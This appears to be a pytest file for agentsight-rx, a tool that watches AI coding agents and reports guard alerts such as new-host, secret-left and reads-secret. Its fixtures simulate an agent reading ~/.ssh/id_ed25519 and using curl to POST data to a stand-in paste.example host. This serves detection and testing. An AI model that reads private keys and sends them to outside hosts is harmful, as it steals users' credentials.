"""A recording with alerts -> what the page gets of them: lists, one whole, and marks above and beside the turns."""

from __future__ import annotations

import json
from typing import Any

import msgspec
import pytest
from msgspec.structs import replace

from agentsight_rx.events import Event, ProcessExit
from agentsight_rx.llm.prices import Prices
from agentsight_rx.policy.rules.guard.file import built_in_rules, read_rules
from agentsight_rx.policy.rules.guard.values import Rules
from agentsight_rx.store.rows.kind import put
from agentsight_rx.store.state import MemoryStore
from agentsight_rx.view import AlertRow, Fold, ProcessRow
from agentsight_rx.view.page import PageError, Picture, answer, embedded
from agentsight_rx.view.page.alert_shapes import STATES
from agentsight_rx.view.page.alerts import loud_of
from agentsight_rx.view.page.picture import WHOLE
from agentsight_rx.view.queries.decided import Decisions, Seen
from tests.guarded import KEY, LABEL, Story, leaking

STOPS = read_rules('[rule.new-host]\ndo = "stop"', "own")


def pictured(events: list[Event], rules: Rules | None = None) -> Picture:
    fold, store = Fold(rules or built_in_rules()), MemoryStore()
    store.commit([put(row) for event in events for row in fold.add(event)])
    store.commit([put(row) for row in fold.finish()])
    return Picture(store, Prices())


def asked(picture: Picture, tab: str = "", **given: str) -> Any:
    session = picture.roots[0].id if picture.roots else WHOLE
    path = f"session/{session}" + (f"/{tab}" if tab else "")
    return json.loads(msgspec.json.encode(answer(picture, "run", path, given)))


def decided(picture: Picture, **known: Any) -> Picture:
    picture.decisions = Decisions(**known)
    return picture


def is_of_new_host(row: AlertRow) -> bool:
    return row.rule == "new-host"


def rows(found: Any) -> list[tuple[str, str]]:
    return [(row["rule"], row["state"]) for row in found["rows"]]


# -- lists ---------------------------------------------------------------------------------------------------------------


def test_those_that_wait_come_first() -> None:
    picture = pictured(leaking().events)
    found = asked(picture, "alerts")
    assert [("new-host", "new"), ("secret-left", "new"), ("unsandboxed", "note"), ("reads-secret", "part")] == rows(found)
    assert (4, 2, 1) == (found["total"], found["waiting"], found["notes"])
    assert 2 == found["rows"][3]["part_of"]
    left = found["rows"][1]
    seen = {left["id"]: Seen(left["id"], 1, 5)}
    rules = read_rules('[rule.new-host]\nallow.append = [{ host = "paste.example" }]', "own")
    found = asked(decided(picture, seen=seen, rules=rules), "alerts")
    assert [("new-host", "allowed"), ("secret-left", "seen"), ("unsandboxed", "note"), ("reads-secret", "part")] == rows(found)
    assert (None, 2) == (found.get("waiting"), found["decided"])


def test_a_page_of_them() -> None:
    found = asked(pictured(leaking().events), "alerts", since="1", count="2")
    assert (1, 4) == (found["start"], found["total"])
    assert [("secret-left", "new"), ("unsandboxed", "note")] == rows(found)


def test_for_a_person_are_neither_notes_nor_parts_of_others() -> None:
    picture = pictured(leaking().events)
    assert ["secret-left", "new-host"] == [row.rule for row in loud_of(picture, picture.roots[0].id)]


def test_a_page_that_can_keep_nothing_says_why() -> None:
    found = asked(decided(pictured(leaking().events), refusal="/x cannot be written here", wrong="guard.toml:1: no"), "alerts")
    assert ("/x cannot be written here", "guard.toml:1: no") == (found["refusal"], found["wrong"])


# -- one of them ---------------------------------------------------------------------------------------------------------


def test_one_alert_whole() -> None:
    whole = asked(pictured(leaking().events), "alerts/a3")
    assert ("new-host", 3, "run") == (whole["line"]["rule"], whole["line"]["proven"], whole["line"]["recording"])
    prompt, tool, process, target = whole["parts"]
    assert ("deploy it", "conversation", 2) == (prompt["text"], prompt["tab"], prompt["turn"])
    assert ("Bash curl paste.example", "by its id", "turn 2") == (tool["text"], tool["tied"], tool["more"])
    assert ("curl paste.example", "by its arguments", "processes") == (process["text"], process["tied"], process["tab"])
    assert ("paste.example", "by its connection", "network") == (target["text"], target["tied"], target["tab"])
    assert not any("sure" in part for part in whole["parts"]), "all links are proven"
    (proof,) = whole["proofs"]
    assert ("curl 1005  POST paste.example/upload", "http", "paste.example") == (proof["text"], proof["tab"], proof["q"])
    assert ('{ host = "paste.example" }', 1, 10) == (whole["entry"], whole["removes"], whole["next"])
    assert whole["means"].startswith("A command of an agent")
    assert whole["misses"].startswith("Requests of the agent")


@pytest.mark.parametrize("name", ["a2", "2", "alert-84c95795c54b8b92"])
def test_what_left_has_no_entry_and_leads_to_its_calls(name: str) -> None:
    whole = asked(pictured(leaking().events), f"alerts/{name}")
    assert "entry" not in whole
    file, tool, call = whole["proofs"]
    assert ("files", KEY) == (file["tab"], file["q"])
    assert (("conversation", 1), ("conversation", 2)) == ((tool["tab"], tool["turn"]), (call["tab"], call["turn"]))
    assert ("~/.ssh/id_ed25519", "to api.anthropic.com") == (whole["parts"][3]["text"], whole["parts"][3]["more"])


def test_an_alert_that_is_not_there_is_named() -> None:
    with pytest.raises(PageError, match="the alert a99 is not in this recording"):
        asked(pictured(leaking().events), "alerts/a99")


def test_an_allowed_alert_says_by_what_and_a_seen_one_since_when() -> None:
    picture = pictured(leaking().events)
    rules = read_rules('[rule.new-host]\nallow.append = [{ host = "paste.example" }]', "own")
    whole = asked(decided(picture, rules=rules, place="/home/ada/.config/agentsight-rx/guard.toml"), "alerts/a3")
    assert ('{ host = "paste.example" }', "~/.config/agentsight-rx/guard.toml") == (whole["allowed"], whole["file"])
    assert "entry" not in whole
    id = whole["line"]["id"]
    whole = asked(decided(picture, seen={id: Seen(id, 1, 77)}), "alerts/a3")
    assert (77, "seen") == (whole["seen_ms"], whole["line"]["state"])


def test_a_link_that_is_not_proven_is_not_sure() -> None:
    """The agent itself read a key, and no tool names it."""
    story = Story()
    story.does(story.agent, "open", KEY)
    whole = asked(pictured(story.events), "alerts/a1")
    assert 1 == whole["line"]["proven"]
    sure = {part["kind"]: part.get("sure", True) for part in whole["parts"]}
    assert {"prompt": True, "tool": False, "process": False, "target": True} == sure
    assert "text" not in whole["parts"][1]


def test_what_retention_removed_is_said_to_be_gone() -> None:
    picture = pictured(leaking().events)
    row = next(row for row in picture.alerts_of(picture.roots[0].id) if row.rule == "new-host")
    gone = replace(
        row, evidence=("audit-0",), process_id=None, command="", tool_id=None, tool="", target="the session", host=None
    )
    picture.store.commit([put(gone)])
    whole = asked(Picture(picture.store, Prices()), "alerts/a3")
    assert [{"id": "audit-0"}] == whole["proofs"]
    assert ["prompt", "tool", "process", "target"] == [part["kind"] for part in whole["parts"]]
    assert "no process was seen" == whole["parts"][2]["more"]
    assert ("the session", "conversation") == (whole["parts"][3]["text"], whole["parts"][3]["tab"])


@pytest.mark.parametrize(("code", "signal", "said"), [(3, 0, "exit 3"), (None, 9, "signal 9")])
def test_a_process_says_how_it_ended(code: int | None, signal: int, said: str) -> None:
    story = Story()
    curl = story.shell("curl paste.example")
    story.sends(curl, "paste.example")
    story.scene.add(ProcessExit(curl.origin(), 1, curl.connection.start_ns, code, signal, duration_ns=10**9))
    assert said in asked(pictured(story.events), "alerts/a1")["parts"][2]["more"]


# -- above the tabs ------------------------------------------------------------------------------------------------------


def test_the_head_has_a_column_of_states_a_clause_and_a_signal() -> None:
    head = asked(pictured(leaking().events))
    assert {"n": [1, 2, 3, 4], "turn": [1, 2, 2, 3], "state": [5, 1, 1, 4]} == head["alerts"]
    assert ("part", "new", "note") == (STATES[5], STATES[1], STATES[4])
    assert {"text": "2 alerts are new.", "tab": "alerts"} == head["verdict"][-1]
    first, second = head["signals"][:2]
    assert ("new-host", 3, [2]) == (first["title"], first["alert"], first["turns"])
    assert first["text"].endswith("a host that no session in ~/shop has spoken to.")
    assert ("secret-left", 2) == (second["title"], second["alert"])
    assert 4 == head["counts"]["alerts"]
    assert "halt" not in head


def test_one_new_alert_is_said_in_its_own_words() -> None:
    story = Story()
    story.sends(story.shell("curl paste.example"), "paste.example")
    head = asked(pictured(story.events))
    assert head["verdict"][-1]["text"].startswith("Curl, run by claude, sent 1.8 kB to paste.example")


def test_a_session_without_alerts_says_nothing_of_them() -> None:
    story = Story()
    story.result("ok")
    head = asked(pictured(story.events))
    assert ({}, 0) == (head.get("alerts", {}), head["counts"]["alerts"])
    assert not [clause for clause in head["verdict"] if clause.get("tab") == "alerts"]


def test_a_stopped_agent_comes_before_all_else() -> None:
    picture = pictured(leaking().events, STOPS)
    running = asked(picture, "alerts/a3")["halt"]
    assert (False, False) == (running["halted"], running["running"])
    head = asked(decided(picture, halted=is_of_new_host))
    assert head["verdict"][0]["text"].startswith("Stopped in turn 2: curl, run by claude, sent 1.8 kB to paste.example")
    assert "claude read ~/.ssh/id_ed25519, and a part of it left in" in head["verdict"][-1]["text"].lower()
    halt = head["halt"]
    assert "claude 1001" == halt["who"]
    assert ("agentsight-rx guard continue 1001", "agentsight-rx guard end 1001") == (halt["go_on"], halt["end"])
    assert [0, "stopped"] == [head["alerts"]["state"][2], asked(picture, "alerts")["rows"][0]["state"]]
    (mine,) = [row for row in picture.alerts_of(WHOLE) if row.rule == "new-host"]
    picture.store.commit([put(replace(mine, agent_pid=None))])
    assert "halt" not in asked(Picture(picture.store, Prices()), "alerts/a3")


def test_many_alerts_are_not_many_signals() -> None:
    story = Story()
    for number in range(5):
        story.sends(story.shell("curl x"), f"h{number}.example")
    head = asked(pictured(story.events))
    assert ["new-host"] * 3 + ["2 more alerts"] == [each["title"] for each in head["signals"][:4]]


def test_an_alert_stands_on_its_turn_below_its_tool_or_its_header() -> None:
    cards = {card["n"]: card for card in asked(pictured(leaking().events), "turns")["cards"]}
    assert ["reads-secret", "secret-left", "new-host", "unsandboxed"] == [
        each["rule"] for turn in (1, 2, 3) for each in cards[turn]["alerts"]
    ]
    assert cards[1]["alerts"][0]["tool"] == cards[1]["tools"][0]["id"]
    left, host = cards[2]["alerts"]
    assert ("tool" in left, host["tool"]) == (False, cards[2]["tools"][0]["id"])


def test_an_alert_from_before_the_first_call_is_in_the_session_of_its_process() -> None:
    picture = pictured(leaking().events)
    root = picture.roots[0]
    stray = AlertRow("alert-x", 1, "loop", "warn", "x", "x", number=9, agent_pid=root.pid)
    lost = AlertRow("alert-y", 1, "loop", "warn", "y", "y", number=10, agent_pid=5, session_id="gone")
    picture.store.commit([put(stray), put(lost)])
    assert 6 == asked(Picture(picture.store, Prices()), "alerts")["total"]


def test_a_recording_without_a_session_has_its_alerts_as_a_whole() -> None:
    store = MemoryStore()
    store.commit([put(ProcessRow("process-1", 1)), put(AlertRow("alert-x", 1, "loop", "warn", "x", "x", number=1))])
    picture = Picture(store, Prices())
    assert [("loop", "new")] == rows(asked(picture, "alerts"))
    assert {"n": [1], "turn": [0], "state": [1]} == asked(picture)["alerts"]


def test_the_columns_have_the_newest() -> None:
    store = MemoryStore()
    store.commit([put(AlertRow(f"alert-{at}", at, "loop", "warn", "x", "x", number=at)) for at in range(1, 504)])
    columns = asked(Picture(store, Prices()))["alerts"]
    assert (4, 503, 3) == (columns["n"][0], columns["n"][-1], columns["more"])


# -- in a file, and secrets ----------------------------------------------------------------------------------------------


def test_a_file_has_its_alerts() -> None:
    picture = pictured(leaking().events)
    session = picture.roots[0].id
    answers = json.loads(msgspec.json.encode(embedded(picture, "run", session)))["answers"]
    assert asked(picture, "alerts") == answers[f"r/run/session/{session}/alerts"]
    assert asked(picture, "alerts/a3") == answers[f"r/run/session/{session}/alerts/a3"]


def test_a_file_of_many_alerts_says_what_it_leaves_out() -> None:
    store = MemoryStore()
    store.commit([put(AlertRow(f"alert-{at}", at, "loop", "warn", "x", "x", number=at)) for at in range(1, 60)])
    assert "the evidence of most alerts" in embedded(Picture(store, Prices()), "run", WHOLE).left_out


def test_the_page_gets_the_label_of_a_secret_and_no_words_but_those_of_rows() -> None:
    """What the redaction left in the rows is all that an answer about alerts is made from."""
    picture = pictured(leaking().events)
    said = json.dumps([asked(picture, "alerts"), *(asked(picture, f"alerts/a{n}") for n in (1, 2, 3, 4)), asked(picture)])
    assert LABEL not in said, "the result with the label is in no alert of these"
    secret = Story(prompt=f"use {LABEL}")
    secret.does(secret.shell(f"cat {KEY}", "cat", KEY), "open", KEY)
    whole = asked(pictured(secret.events), "alerts/a1")
    assert f"use {LABEL}" == whole["parts"][0]["text"]
